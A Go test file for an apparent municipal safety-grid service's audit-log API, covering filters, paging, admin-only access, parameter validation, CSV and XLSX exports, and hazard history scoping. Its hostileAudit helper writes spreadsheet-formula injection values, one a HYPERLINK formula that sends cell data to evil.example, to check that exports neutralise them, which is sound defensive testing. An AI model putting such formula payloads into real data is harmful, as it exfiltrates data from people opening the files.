package api

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/xuri/excelize/v2"

	"safegrid/grid"
	"safegrid/grid/testdb"
)

var msUTCRe = regexp.MustCompile(`^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$`)

// auditIDs are the ids SQL selects from audit_log with where (bound args), newest first.
func auditIDs(t *testing.T, ts *testServer, where string, args ...any) []int64 {
	t.Helper()
	rows, err := testdb.DB(ts.st).Query(context.Background(), `SELECT id FROM audit_log WHERE `+where+` ORDER BY at DESC, id DESC`, args...)
	if err != nil {
		t.Fatal(err)
	}
	ids, err := pgx.CollectRows(rows, pgx.RowTo[int64])
	if err != nil {
		t.Fatal(err)
	}
	return ids
}

func (f *gridFixture) auditPage(t *testing.T, query string) auditPage {
	t.Helper()
	var page auditPage
	resp, body := f.get(t, f.admin, "/api/v1/admin/audit?"+query, &page)
	if resp.StatusCode != 200 {
		t.Fatalf("audit ?%s: %d %s", query, resp.StatusCode, body)
	}
	return page
}

func pageIDs(p auditPage) []int64 {
	ids := make([]int64, len(p.Items))
	for i, it := range p.Items {
		ids[i] = it.ID
	}
	return ids
}

// The audit log over HTTP: the writes of the day (logins, a hazard's registration, an
// inspection, an assignment) are there with their object and street, and each filter
// narrows the list exactly as the same condition in SQL does, newest first and paged.
func TestAuditLogList(t *testing.T) {
	f := newGridFixture(t)
	ctx := context.Background()
	if resp, body := f.post(t, f.sta, fmt.Sprintf("/api/v1/hazards/%d/transition", f.hazardID["H1"]), `{"to":"registered","version":1,"note":"收到"}`); resp.StatusCode != 200 {
		t.Fatalf("transition: %d %s", resp.StatusCode, body)
	}
	lon, lat := centre(f.c1, 0.0002, 0)[0], centre(f.c1, 0.0002, 0)[1]
	if resp, body := f.post(t, f.off1, "/api/v1/inspections", fmt.Sprintf(`{"enterprise":%q,"result":"passed","lon":%v,"lat":%v}`, f.uscc["E1"], lon, lat)); resp.StatusCode != 201 {
		t.Fatalf("inspection: %d %s", resp.StatusCode, body)
	}
	if resp, body := f.post(t, f.admin, "/api/v1/grid/units/U3/officer", `{"officer":"off3"}`); resp.StatusCode != 200 {
		t.Fatalf("assign: %d %s", resp.StatusCode, body)
	}
	// Two records of a past day, to filter by dates: 2026-12-01 in Shanghai is
	// 2026-11-30T16:00Z to 2026-12-01T16:00Z.
	for _, at := range []string{"2026-11-30T15:59:59.999Z", "2026-11-30T16:00:00Z", "2026-12-01T15:59:59.999Z", "2026-12-01T16:00:00Z"} {
		if _, err := testdb.DB(f.ts.st).Exec(ctx, `INSERT INTO audit_log (at, actor, action, target, object_kind, object_id) VALUES ($1, 'old', 'import', 'areas', 'dataset', 'areas')`, at); err != nil {
			t.Fatal(err)
		}
	}

	all := f.auditPage(t, "")
	if want := auditIDs(t, f.ts, "true"); !slices.Equal(pageIDs(all), want) || all.Total != len(want) {
		t.Fatalf("everything: %v (total %d), want %v", pageIDs(all), all.Total, want)
	}
	var reg *auditItem
	for i, it := range all.Items {
		if !msUTCRe.MatchString(it.At) {
			t.Errorf("at %q is not RFC 3339 UTC with milliseconds", it.At)
		}
		if it.Action == "hazard_registered" {
			reg = &all.Items[i]
		}
	}
	if reg == nil || reg.Actor != "sta" || *reg.Kind != "hazard" || *reg.Object != "H1" || *reg.StreetCode != f.streetA {
		t.Fatalf("the registration's record: %+v", reg)
	}
	var det map[string]any
	if err := json.Unmarshal(reg.Details, &det); err != nil || det["from"] != "reported" || det["to"] != "registered" || det["note"] != "收到" {
		t.Errorf("details %s: %v", reg.Details, err)
	}

	for _, tc := range []struct {
		query, where string
		args         []any
	}{
		{"actor=off1", "actor = $1", []any{"off1"}},
		{"action=login", "action = $1", []any{"login"}},
		{"kind=session", "object_kind = $1", []any{"session"}},
		{"kind=hazard&object=H1", "object_kind = 'hazard' AND object_id = $1", []any{"H1"}},
		{"kind=enterprise", "object_kind = 'enterprise' AND object_id = $1", []any{f.uscc["E1"]}},
		{"kind=unit&object=U3", "object_kind = 'unit' AND object_id = 'U3' AND street_code = $1", []any{f.streetB}},
		{"street=" + f.streetA, "street_code = $1", []any{f.streetA}},
		{"street=" + f.streetB, "street_code = $1", []any{f.streetB}},
		{"from=2026-12-01&to=2026-12-01", "at >= $1 AND at < $2", []any{"2026-11-30T16:00:00Z", "2026-12-01T16:00:00Z"}},
		{"from=2026-11-30T16:00:00Z&to=2026-12-01T15:59:59.999Z", "at >= $1 AND at <= $2", []any{"2026-11-30T16:00:00Z", "2026-12-01T15:59:59.999Z"}},
		{"from=2026-12-01T00:00:00%2B08:00&to=2026-12-01T23:59:59.998%2B08:00", "at >= $1 AND at < $2", []any{"2026-11-30T16:00:00Z", "2026-12-01T15:59:59.999Z"}},
		{"from=2026-12-01T00:00:00+08:00&to=2026-12-01T23:59:59.999+08:00", "at >= $1 AND at < $2", []any{"2026-11-30T16:00:00Z", "2026-12-01T16:00:00Z"}}, // + unencoded
		{"to=2026-11-30", "at < $1", []any{"2026-11-30T16:00:00Z"}},
		{"actor=off1&kind=session", "actor = $1 AND object_kind = 'session'", []any{"off1"}},
		{"actor=nobody", "actor = $1", []any{"nobody"}},
	} {
		want := auditIDs(t, f.ts, tc.where, tc.args...)
		got := f.auditPage(t, tc.query)
		if !slices.Equal(pageIDs(got), want) || got.Total != len(want) {
			t.Errorf("?%s: %v (total %d), want %v", tc.query, pageIDs(got), got.Total, want)
		}
		if len(want) == len(all.Items) {
			t.Errorf("?%s narrows nothing", tc.query)
		}
		if tc.query != "actor=nobody" && len(want) == 0 {
			t.Errorf("?%s: SQL selects nothing; the case tests nothing", tc.query)
		}
	}
	// Paging walks the same list.
	want := auditIDs(t, f.ts, "true")
	var paged []int64
	for off := 0; off < len(want); off += 3 {
		p := f.auditPage(t, fmt.Sprintf("limit=3&offset=%d", off))
		if p.Total != len(want) || len(p.Items) > 3 {
			t.Fatalf("page at %d: %d items, total %d", off, len(p.Items), p.Total)
		}
		paged = append(paged, pageIDs(p)...)
	}
	if !slices.Equal(paged, want) {
		t.Errorf("paged %v, want %v", paged, want)
	}
	// 100 a page unless asked.
	if _, err := testdb.DB(f.ts.st).Exec(ctx, `INSERT INTO audit_log (actor, action) SELECT 'bulk', 'x' FROM generate_series(1, 120)`); err != nil {
		t.Fatal(err)
	}
	if p := f.auditPage(t, "actor=bulk"); len(p.Items) != 100 || p.Total != 120 {
		t.Errorf("default page: %d items of %d", len(p.Items), p.Total)
	}
	if p := f.auditPage(t, "actor=bulk&limit=1000"); len(p.Items) != 120 {
		t.Errorf("limit=1000: %d items", len(p.Items))
	}
}

// Only admins read the log.
func TestAuditLogAdminOnly(t *testing.T) {
	f := newGridFixture(t)
	for _, tc := range []struct {
		auth   string
		status int
	}{{"", 401}, {f.off1, 403}, {f.sta, 403}, {f.planner, 403}, {f.admin, 200}} {
		for _, q := range []string{"", "?format=csv", "?format=xlsx"} {
			resp, body := f.get(t, tc.auth, "/api/v1/admin/audit"+q, nil)
			if resp.StatusCode != tc.status {
				t.Errorf("%q %s: %d, want %d", tc.auth, q, resp.StatusCode, tc.status)
			}
			if tc.status != 200 {
				problemOf(t, resp, body, tc.status)
				if bytes.Contains(body, []byte(`"items"`)) {
					t.Errorf("a refusal shows records: %s", body)
				}
			}
		}
	}
}

// A bad parameter is a 400 naming it, never a 500 and never an empty list.
func TestAuditLogBadParameters(t *testing.T) {
	f := newGridFixture(t)
	for _, tc := range []struct{ query, field string }{
		{"from=2026-13-45", "from"},
		{"to=2026-02-30", "to"},
		{"from=yesterday", "from"},
		{"to=2026-12-01T25:00:00Z", "to"},
		{"from=2026-12-02&to=2026-12-01", "from"},
		{"from=2026-12-01T10:00:00Z&to=2026-12-01T09:59:59Z", "from"},
		{"kind=planet", "kind"},
		{"street=31010100", "street"},
		{"street=abcdefghi", "street"},
		{"street=310101009", "street"}, // 9 digits, but no such street
		{"limit=0", "limit"},
		{"limit=1001", "limit"},
		{"limit=ten", "limit"},
		{"limit=99999999999999999999", "limit"},
		{"offset=-1", "offset"},
		{"format=pdf", "format"},
		{"format=csv&limit=100001", "limit"},
		{"actor=a%00b", "actor"},
		{"action=%ff%fe", "action"},
		{"object=" + strings.Repeat("x", 300), "object"},
		{"from=0000-01-01", "from"},
	} {
		resp, body := f.get(t, f.admin, "/api/v1/admin/audit?"+tc.query, nil)
		if resp.StatusCode != 400 {
			t.Errorf("?%.60s: %d, want 400: %s", tc.query, resp.StatusCode, body)
			continue
		}
		p := problemOf(t, resp, body, 400)
		if len(p.Errors) != 1 || p.Errors[0].Field != tc.field || !strings.HasPrefix(p.Detail, tc.field+": ") {
			t.Errorf("?%.60s: %s, want it to name %s", tc.query, body, tc.field)
		}
	}
}

// hostileAudit writes records whose actor, object and details would run as formulas in a
// spreadsheet (a failed login records the name it was sent, whatever it is).
func hostileAudit(t *testing.T, st *grid.Store) {
	t.Helper()
	ctx := context.Background()
	if err := st.Audit(ctx, nil, `=HYPERLINK("http://evil.example/?"&A1,"点我")`, "login_failed", "@SUM(1+1)", nil); err != nil {
		t.Fatal(err)
	}
	if err := st.Record(ctx, nil, grid.AuditEntry{Actor: "adm", Action: "import", Kind: grid.AuditDataset, Object: "+enterprises",
		Details: "=1+2"}); err != nil {
		t.Fatal(err)
	}
}

// The CSV export: UTF-8 with a byte-order mark, a header, every record matching the filter,
// and no cell a spreadsheet would run as a formula.
func TestAuditExportCSV(t *testing.T) {
	f := newGridFixture(t)
	hostileAudit(t, f.ts.st)
	resp, body := f.get(t, f.admin, "/api/v1/admin/audit?format=csv", nil)
	if resp.StatusCode != 200 || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("%d %s", resp.StatusCode, resp.Header.Get("Content-Type"))
	}
	if !bytes.HasPrefix(body, []byte("\uFEFF")) {
		t.Fatal("no byte-order mark")
	}
	recs, err := csv.NewReader(bytes.NewReader(body[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := auditIDs(t, f.ts, "true")
	if len(recs) != len(want)+1 || resp.Header.Get("X-Total-Count") != strconv.Itoa(len(want)) ||
		resp.Header.Get("X-Export-Rows") != strconv.Itoa(len(want)) || resp.Header.Get("X-Export-Truncated") != "" {
		t.Fatalf("%d rows for %d records; headers %v", len(recs), len(want), resp.Header)
	}
	if !slices.Equal(recs[0], []string{"编号", "时间 (UTC)", "操作人", "操作", "对象类型", "对象编号", "街道编码", "详情"}) {
		t.Errorf("header %q", recs[0])
	}
	for i, r := range recs[1:] {
		if r[0] != strconv.FormatInt(want[i], 10) || !msUTCRe.MatchString(r[1]) {
			t.Errorf("row %d: %q, want id %d", i+1, r, want[i])
		}
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d: cell %q would run as a formula", i+1, cell)
			}
		}
	}
	// The hostile records are newest: their cells are there, neutralised, not dropped.
	if got := recs[1]; got[2] != "adm" || got[5] != "'+enterprises" || got[7] != `"=1+2"` {
		t.Errorf("newest row %q", got)
	}
	if got := recs[2]; got[2] != `'=HYPERLINK("http://evil.example/?"&A1,"点我")` || got[5] != "'@SUM(1+1)" || got[4] != "session" {
		t.Errorf("second row %q", got)
	}
	// The filters apply to exports too.
	_, body = f.get(t, f.admin, "/api/v1/admin/audit?format=csv&kind=dataset", nil)
	recs, err = csv.NewReader(bytes.NewReader(body[3:])).ReadAll()
	if err != nil || len(recs) != 2 || recs[1][3] != "import" {
		t.Errorf("kind=dataset: %q %v", recs, err)
	}
}

// The XLSX export: one sheet, a header row, every cell a string (so nothing is a formula),
// and a cell too long for Excel cut with a note and counted in a header, not silently.
func TestAuditExportXLSX(t *testing.T) {
	f := newGridFixture(t)
	hostileAudit(t, f.ts.st)
	long := strings.Repeat("长", 40000)
	if err := f.ts.st.Record(context.Background(), nil, grid.AuditEntry{Actor: "adm", Action: "import", Kind: grid.AuditDataset,
		Object: "areas", Details: map[string]string{"text": long}}); err != nil {
		t.Fatal(err)
	}
	resp, body := f.get(t, f.admin, "/api/v1/admin/audit?format=xlsx", nil)
	if resp.StatusCode != 200 || resp.Header.Get("Content-Type") != mimeXLSX {
		t.Fatalf("%d %s", resp.StatusCode, resp.Header.Get("Content-Type"))
	}
	if resp.Header.Get("X-Export-Cut-Cells") != "1" {
		t.Errorf("X-Export-Cut-Cells %q, want 1", resp.Header.Get("X-Export-Cut-Cells"))
	}
	x, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	if sheets := x.GetSheetList(); len(sheets) != 1 || sheets[0] != "审计日志" {
		t.Fatalf("sheets %v", sheets)
	}
	rows, err := x.GetRows("审计日志")
	if err != nil {
		t.Fatal(err)
	}
	want := auditIDs(t, f.ts, "true")
	if len(rows) != len(want)+1 || rows[0][0] != "编号" || rows[0][7] != "详情" {
		t.Fatalf("%d rows for %d records; header %q", len(rows), len(want), rows[0])
	}
	for i := range rows {
		for j := range rows[i] {
			cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
			typ, err := x.GetCellType("审计日志", cell)
			if err != nil || typ != excelize.CellTypeInlineString && rows[i][j] != "" {
				t.Errorf("%s: type %v (%v), want a string", cell, typ, err)
			}
			if fm, _ := x.GetCellFormula("审计日志", cell); fm != "" {
				t.Errorf("%s: formula %q", cell, fm)
			}
		}
		if i > 0 && rows[i][0] != strconv.FormatInt(want[i-1], 10) {
			t.Errorf("row %d: id %s, want %d", i, rows[i][0], want[i-1])
		}
	}
	// Newest first: the long record, then the two hostile ones, kept as typed text.
	if d := rows[1][7]; !strings.HasPrefix(d, `{"text": "长长`) || !strings.Contains(d, "truncated: 40012 characters in all") {
		t.Errorf("long details: %.40q … %q", d, d[max(0, len(d)-120):])
	}
	if rows[3][2] != `=HYPERLINK("http://evil.example/?"&A1,"点我")` {
		t.Errorf("actor cell %q", rows[3][2])
	}
}

// An export holds up to grid.AuditMaxRows records; when more match it says so in its
// headers rather than dropping the rest silently.
func TestAuditExportCap(t *testing.T) {
	if testing.Short() {
		t.Skip("writes 100,001 records")
	}
	f := newGridFixture(t)
	if _, err := testdb.DB(f.ts.st).Exec(context.Background(), `INSERT INTO audit_log (actor, action, target, details)
SELECT 'bulk', 'x', 'o' || i, jsonb_build_object('i', i) FROM generate_series(1, $1::int) AS i`, grid.AuditMaxRows+1); err != nil {
		t.Fatal(err)
	}
	resp, body := f.get(t, f.admin, "/api/v1/admin/audit?format=csv&actor=bulk", nil)
	if resp.StatusCode != 200 {
		t.Fatalf("%d %.300s", resp.StatusCode, body)
	}
	if h := resp.Header; h.Get("X-Total-Count") != strconv.Itoa(grid.AuditMaxRows+1) ||
		h.Get("X-Export-Rows") != strconv.Itoa(grid.AuditMaxRows) || h.Get("X-Export-Truncated") != "true" {
		t.Errorf("headers %v", h)
	}
	if n := bytes.Count(body, []byte("\n")); n != grid.AuditMaxRows+1 {
		t.Errorf("%d lines, want the header and %d records", n, grid.AuditMaxRows)
	}
	// The rest is there at the next offset.
	resp, body = f.get(t, f.admin, fmt.Sprintf("/api/v1/admin/audit?format=csv&actor=bulk&offset=%d", grid.AuditMaxRows), nil)
	recs, err := csv.NewReader(bytes.NewReader(body[3:])).ReadAll()
	if err != nil || len(recs) != 2 || resp.Header.Get("X-Export-Truncated") != "" || recs[1][7] != `{"i": 1}` {
		t.Errorf("the last one: %q %v %v", recs, err, resp.Header)
	}
}

// A hazard's history says who did what, oldest first, and is scoped like the hazard:
// outside the caller's cells or street it is a 404 exactly like a hazard that does not
// exist.
func TestHazardHistory(t *testing.T) {
	f := newGridFixture(t)
	ctx := context.Background()
	if _, err := testdb.DB(f.ts.st).Exec(ctx, `UPDATE users SET display_name = '甲街道办' WHERE username = 'sta'`); err != nil {
		t.Fatal(err)
	}
	lon, lat := centre(f.c1, 0.0003, 0)[0], centre(f.c1, 0.0003, 0)[1]
	resp, body := f.post(t, f.off1, "/api/v1/hazards", fmt.Sprintf(`{"level":"一般","category":"消防安全","description":"通道堵塞","lon":%v,"lat":%v}`, lon, lat))
	if resp.StatusCode != 201 {
		t.Fatalf("report: %d %s", resp.StatusCode, body)
	}
	var created struct {
		ID int64 `json:"id"`
	}
	if err := json.Unmarshal(body, &created); err != nil {
		t.Fatal(err)
	}
	path := fmt.Sprintf("/api/v1/hazards/%d", created.ID)
	steps := []string{`{"to":"registered","version":1,"note":"已立案"}`,
		fmt.Sprintf(`{"to":"assigned","version":2,"responsible":"张三","deadline":%q}`, time.Now().AddDate(0, 0, 10).Format(time.DateOnly))}
	for _, st := range steps {
		if resp, body := f.post(t, f.sta, path+"/transition", st); resp.StatusCode != 200 {
			t.Fatalf("%s: %d %s", st, resp.StatusCode, body)
		}
	}
	var h historyPage
	resp, body = f.get(t, f.off1, path+"/history", &h)
	if resp.StatusCode != 200 || len(h.Items) != 3 {
		t.Fatalf("%d %s", resp.StatusCode, body)
	}
	type step struct{ actor, name, action, from, to, note string }
	want := []step{{"off1", "", "hazard_report", "", "reported", "reported in the field"},
		{"sta", "甲街道办", "hazard_registered", "reported", "registered", "已立案"},
		{"sta", "甲街道办", "hazard_assigned", "registered", "assigned", ""}}
	for i, e := range h.Items {
		got := step{e.Actor, auditText(e.ActorName), e.Action, auditText(e.FromStatus), e.ToStatus, auditText(e.Note)}
		if got != want[i] || !msUTCRe.MatchString(e.At) || e.Details == nil {
			t.Errorf("step %d: %+v (at %q), want %+v", i, got, e.At, want[i])
		}
		if i > 0 && e.At < h.Items[i-1].At {
			t.Errorf("step %d is older than step %d", i, i-1)
		}
	}
	if h.Items[2].Details["responsible"] != "张三" {
		t.Errorf("the assignment's plan: %v", h.Items[2].Details)
	}
	// Each step is in the audit log under the same action, with the hazard's street.
	var code string
	_ = testdb.DB(f.ts.st).QueryRow(ctx, `SELECT code FROM hazards WHERE id = $1`, created.ID).Scan(&code)
	logged := f.auditPage(t, "kind=hazard&object="+url.QueryEscape(code))
	var actions []string
	for _, it := range logged.Items {
		actions = append(actions, it.Action+"|"+it.Actor+"|"+auditText(it.StreetCode))
	}
	if !slices.Equal(actions, []string{"hazard_assigned|sta|" + f.streetA, "hazard_registered|sta|" + f.streetA, "hazard_report|off1|" + f.streetA}) {
		t.Errorf("audit records of %s: %q", code, actions)
	}

	// Scope. A missing hazard's 404 is the template every refusal must match.
	hist := func(name string) string { return fmt.Sprintf("/api/v1/hazards/%d/history", f.hazardID[name]) }
	missing := int64(999999)
	shape := func(b []byte, id int64) string {
		var p map[string]any
		if err := json.Unmarshal(b, &p); err != nil {
			t.Fatalf("%s: %v", b, err)
		}
		delete(p, "request_id")
		out, _ := json.Marshal(p)
		return strings.ReplaceAll(string(out), strconv.FormatInt(id, 10), "ID")
	}
	resp, body = f.get(t, f.off1, fmt.Sprintf("/api/v1/hazards/%d/history", missing), nil)
	problemOf(t, resp, body, 404)
	notFound := shape(body, missing)
	for _, tc := range []struct {
		who, auth, hazard string
		status            int
	}{
		{"officer, own cell", f.off1, "H1", 200},
		{"officer, another unit's cell", f.off1, "H5", 404},
		{"officer, street B", f.off1, "H6", 404},
		{"street A, its own", f.sta, "H5", 200},
		{"street A, street B's", f.sta, "H6", 404},
		{"street B, street A's", f.stb, "H1", 404},
		{"planner", f.planner, "H6", 200},
		{"admin", f.admin, "H5", 200},
		{"anonymous", "", "H1", 401},
	} {
		resp, body := f.get(t, tc.auth, hist(tc.hazard), nil)
		if resp.StatusCode != tc.status {
			t.Errorf("%s: %d, want %d: %s", tc.who, resp.StatusCode, tc.status, body)
			continue
		}
		if tc.status == 404 {
			problemOf(t, resp, body, 404)
			if got := shape(body, f.hazardID[tc.hazard]); got != notFound {
				t.Errorf("%s: %s, want the body of a missing hazard %s", tc.who, got, notFound)
			}
		}
	}
	for _, bad := range []string{"0", "-1", "abc", "99999999999999999999"} {
		resp, body := f.get(t, f.admin, "/api/v1/hazards/"+bad+"/history", nil)
		problemOf(t, resp, body, 404)
	}
}
